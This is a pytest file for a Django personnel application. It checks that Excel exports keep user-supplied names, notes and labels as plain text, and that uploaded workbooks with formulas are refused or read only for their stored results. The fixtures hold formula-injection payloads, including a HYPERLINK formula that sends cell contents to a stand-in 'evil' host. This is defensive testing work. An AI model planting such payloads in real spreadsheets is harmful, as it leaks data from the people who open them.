"""No formula injection: user text in every workbook the application writes stays text.

The attack: an official (or an organization, a plan row, a note) named
'=HYPERLINK("http://evil/?"&A1,"Bấm")' is written by openpyxl as a live
formula into the exports unless the cell is forced to be a string cell. Each
download is driven through its URL; every cell of every sheet is scanned, and
the XML inside the file is checked for formula elements.
"""
from __future__ import annotations

import datetime as dt
import html
import io
import re
import zipfile
from xml.etree.ElementTree import fromstring
from xml.sax.saxutils import escape

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cadre.exchange.problems import Problem
from cadre.exchange.workbook_export import export_workbook
from cadre.exchange.workbook_import import import_workbook
from cadre.models import CareerEvent, Official, Organization
from tests.cadre.test_workbook_import import HEADERS, base_rows, workbook_bytes
from tests.factories import add_position, add_qualification, make_district_tree, make_official, make_user
from tests.reports.plans import make_plan

pytestmark = pytest.mark.django_db

NAMES = ["=1+2", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x","y")', "#N/A"]
ORGANIZATION = "=2+3"
LABEL = "=3+4"
TITLE = "=5+6"
NOTE = '=HYPERLINK("http://evil/?"&A1,"Bấm")'
QUALIFICATION = "=7+8"
REPORT = {"org": "LC.A", "plan": "T-01/HU", "as_of": "15/05/2023", "rating_years": "2022", "baseline": "31/12/2020"}
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
NO_RESULT = (
    "nhưng tệp không lưu kết quả của công thức (thường gặp ở tệp do chương trình khác tạo ra). "
    "Hãy mở tệp bằng Excel rồi lưu lại, hoặc sao chép các ô này và dán dưới dạng giá trị "
    "(Dán đặc biệt → Giá trị), rồi tải lên lại."
)


@pytest.fixture
def tree():
    tree = make_district_tree("LC")
    Organization.objects.filter(pk=tree["LC.A.X1"].pk).update(name=ORGANIZATION)
    return tree


@pytest.fixture
def hostile(tree):
    """One official per payload name in commune X1 (named "=2+3"), with a hostile hometown, note and certificate."""
    officials = []
    for number, name in enumerate(NAMES):
        official = make_official(f"F{number}", full_name=name, hometown_text=name.strip() or None,
                                 birth_date=dt.date(1980, 1, 1))
        add_position(official, tree["LC.A.X1"], "CT_UBND_XA", dt.date(2019, 1, 1))
        officials.append(official)
    add_qualification(officials[0], "TIN_HOC", QUALIFICATION, dt.date(2010, 1, 1))
    CareerEvent.objects.create(official=officials[0], kind="DIEU_DONG", date=dt.date(2019, 1, 1),
                               from_text=NOTE, to_organization=tree["LC.A.X1"], note=NOTE)
    return officials


@pytest.fixture
def staff(client, tree):
    client.force_login(make_user("huyen-a", tree["LC.A"]))
    return client


@pytest.fixture
def plan(tree):
    return make_plan(tables=[{
        "number": "Biểu 01", "title": TITLE, "population": "CB_XA",
        "rows": [{"label": LABEL, "indicator": "NU"}],
    }])


def text_cells(content: bytes) -> dict[str, set[tuple[str, str]]]:
    """Every text in the workbook -> {(sheet, cell)}; fails on any formula or error cell."""
    book = load_workbook(io.BytesIO(content))
    texts: dict[str, set[tuple[str, str]]] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    texts.setdefault(cell.value, set()).add((sheet.title, cell.coordinate))
    return texts


def assert_no_formula_in_the_file(content: bytes, payloads) -> None:
    """No sheet of the package has a formula element (the application writes none of its own)."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheets = [name for name in package.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)]
        assert sheets
        for name in sheets:
            xml = package.read(name)
            assert list(fromstring(xml).iter(f"{MAIN}f")) == [], name
            for payload in payloads:
                assert f"<f>{escape(payload[1:])}".encode() not in xml


# --- the officials list ----------------------------------------------------------------------------


def test_the_officials_list_keeps_hostile_names_and_units_as_text(staff, hostile):
    response = staff.get(reverse("cadre:official_list_xlsx"))
    assert response.status_code == 200

    texts = text_cells(response.content)
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["DanhSach"]
    listed = [(sheet.cell(row=row, column=2).value, sheet.cell(row=row, column=8).value)
              for row in range(5, 5 + len(NAMES))]
    assert sorted(listed) == sorted((name, ORGANIZATION) for name in NAMES)
    assert sheet.cell(row=5 + len(NAMES), column=2).value is None
    for name in NAMES:
        assert len(texts[name]) == 1
    assert len(texts[ORGANIZATION]) == len(NAMES)
    assert_no_formula_in_the_file(response.content, [*NAMES, ORGANIZATION])


# --- the exchange workbook -------------------------------------------------------------------------


def test_the_exchange_workbook_keeps_hostile_text_exactly(staff, hostile, tree):
    response = staff.get(reverse("cadre:official_exchange_workbook"))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)

    texts = text_cells(content)
    book = load_workbook(io.BytesIO(content))
    organizations = {row[0]: row[1] for row in book["ToChuc"].iter_rows(min_row=2, values_only=True)}
    assert organizations["LC.A.X1"] == ORGANIZATION
    officials = {row[0]: (row[1], row[6]) for row in book["CanBo"].iter_rows(min_row=2, values_only=True)}
    assert officials == {f"F{number}": (name, name.strip()) for number, name in enumerate(NAMES)}
    assert texts[ORGANIZATION] == {("ToChuc", "B4")}
    assert texts[QUALIFICATION] == {("TrinhDo", "C2")}
    assert texts[NOTE] == {("SuKien", "D2"), ("SuKien", "F2")}
    for number, name in enumerate(NAMES):
        assert ("CanBo", f"B{number + 2}") in texts[name]
    assert_no_formula_in_the_file(content, [*NAMES, ORGANIZATION, NOTE, QUALIFICATION])


def test_the_exchange_workbook_imports_back_the_same_hostile_text(hostile, tree):
    # The import trims text, so the names that start with a tab or CR would come back trimmed: left out.
    Official.objects.filter(full_name__in=["\t=1", "\r=1"]).delete()
    buffer = io.BytesIO()
    export_workbook(tree["LC.A"], buffer)
    buffer.seek(0)

    result = import_workbook(buffer, user=make_user("huyen-a", tree["LC.A"]), dry_run=True)

    assert result.problems == []
    changes = {sheet: {action: count for action, count in counts.items() if action != "unchanged" and count}
               for sheet, counts in result.summary.items()}
    assert changes == {sheet: {} for sheet in result.summary}
    assert result.summary["CanBo"]["unchanged"] == len(NAMES) - 2
    assert Official.objects.get(code="F0").full_name == "=1+2"
    assert Organization.objects.get(code="LC.A.X1").name == ORGANIZATION
    assert CareerEvent.objects.get().note == NOTE


# --- the Biểu workbook and the comparison ----------------------------------------------------------


def test_the_report_workbook_keeps_a_hostile_plan_title_and_row_label_as_text(staff, hostile, plan):
    response = staff.get("/bao-cao/tai-ve/xlsx/", REPORT)
    assert response.status_code == 200

    texts = text_cells(response.content)
    assert texts[TITLE] == {("Biểu 01", "A1")}
    assert texts[LABEL] == {("Biểu 01", "B9")}
    assert_no_formula_in_the_file(response.content, [TITLE, LABEL])


def test_the_comparison_keeps_hostile_unit_names_and_row_labels_as_text(staff, hostile, plan):
    response = staff.get("/bao-cao/so-sanh/tai-ve/", REPORT)
    assert response.status_code == 200

    texts = text_cells(response.content)
    assert texts[LABEL] == {("Biểu 01", "C4")}
    assert texts[ORGANIZATION] == {("Biểu 01", "A7")}
    sheet = load_workbook(io.BytesIO(response.content))["Biểu 01"]
    assert [sheet.cell(row=7, column=column).value for column in (1, 2, 3)] == [ORGANIZATION, len(NAMES), 0]
    assert_no_formula_in_the_file(response.content, [TITLE, LABEL, ORGANIZATION])


# --- formulas in an uploaded workbook ---------------------------------------------------------------
# A formula cell is read as the result Excel stored with it; the formula text is never imported. A formula
# with no stored result (a file written by a program) or with an error result is refused.


def formula_workbook(result: str | None = None) -> io.BytesIO:
    """The small valid workbook, the first official's name being the formula A2&"x".

    As openpyxl writes it the formula has no stored result; `result` is the stored
    result Excel would write: '<v>…</v>' with t="str", or t="e" when it starts with "#".
    """
    rows = base_rows()
    rows["CanBo"][0][1] = '=A2&"x"'
    buffer = workbook_bytes(rows)
    if result is None:
        return buffer
    kind = "e" if result.startswith("#") else "str"
    source, changed = zipfile.ZipFile(buffer), io.BytesIO()
    with zipfile.ZipFile(changed, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet2.xml":
                before = b'<c r="B2"><f>A2&amp;"x"</f><v></v></c>'
                assert before in data
                data = data.replace(before, f'<c r="B2" t="{kind}"><f>A2&amp;"x"</f><v>{result}</v></c>'.encode())
            target.writestr(item, data)
    changed.seek(0)
    return changed


def test_a_formula_without_a_stored_result_is_refused_and_nothing_is_written():
    result = import_workbook(formula_workbook())

    assert result.problems == [Problem("CanBo", 2, "Họ và tên", f"Ô B2 chứa công thức “=A2&\"x\"” {NO_RESULT}")]
    assert not Official.objects.exists() and not Organization.objects.exists()


def test_a_formula_with_an_error_result_is_refused():
    result = import_workbook(formula_workbook("#N/A"))

    assert result.problems == [Problem(
        "CanBo", 2, "Họ và tên",
        "Ô B2 chứa công thức “=A2&\"x\"” cho kết quả lỗi #N/A; hãy sửa công thức hoặc nhập giá trị rồi tải lên lại.",
    )]
    assert not Official.objects.exists()


@pytest.mark.parametrize("stored", ["Nguyễn Văn An", NOTE.replace("&", "&amp;").replace('"', "&quot;")])
def test_a_formula_is_imported_as_its_stored_result_never_as_its_text(stored):
    result = import_workbook(formula_workbook(stored))

    assert result.problems == []
    expected = "Nguyễn Văn An" if stored == "Nguyễn Văn An" else NOTE
    assert Official.objects.get(code="PT001").full_name == expected


def test_a_formula_in_a_column_the_import_ignores_is_left_alone():
    rows = base_rows()
    rows["CanBo"][0].append("=1+1")
    result = import_workbook(workbook_bytes(rows, {"CanBo": [*HEADERS["CanBo"], "Ghi chú riêng"]}))
    assert result.problems == []
    assert Official.objects.get(code="PT001").full_name == "Nguyễn Văn An"


def test_a_formula_header_without_a_result_is_refused():
    result = import_workbook(workbook_bytes(base_rows(), {"DanhGia": ["Mã cán bộ", '="Năm"', "Xếp loại"]}))
    assert result.problems == [
        Problem("DanhGia", None, "Năm", "Thiếu cột bắt buộc."),
        Problem("DanhGia", 1, None, f"Ô B1 chứa công thức “=\"Năm\"” {NO_RESULT}"),
    ]
    assert not Official.objects.exists()


def test_the_upload_page_names_the_formula_cell_and_writes_nothing(client, tmp_path, settings):
    settings.IMPORT_IN_BACKGROUND = False
    tree = make_district_tree("LC")
    client.force_login(make_user("tinh", tree["LC"]))
    path = tmp_path / "cong-thuc.xlsx"
    path.write_bytes(formula_workbook().getvalue())

    with open(path, "rb") as handle:
        response = client.post(reverse("cadre:import_upload"), {"workbook": handle}, follow=True)

    job = response.context["job"]
    assert job.ok is False
    assert [(p["sheet"], p["row"], p["column"]) for p in job.problems] == [("CanBo", 2, "Họ và tên")]
    assert html.escape(f"Ô B2 chứa công thức “=A2&\"x\"” {NO_RESULT}") in response.content.decode()
    assert not Official.objects.filter(code="PT001").exists()
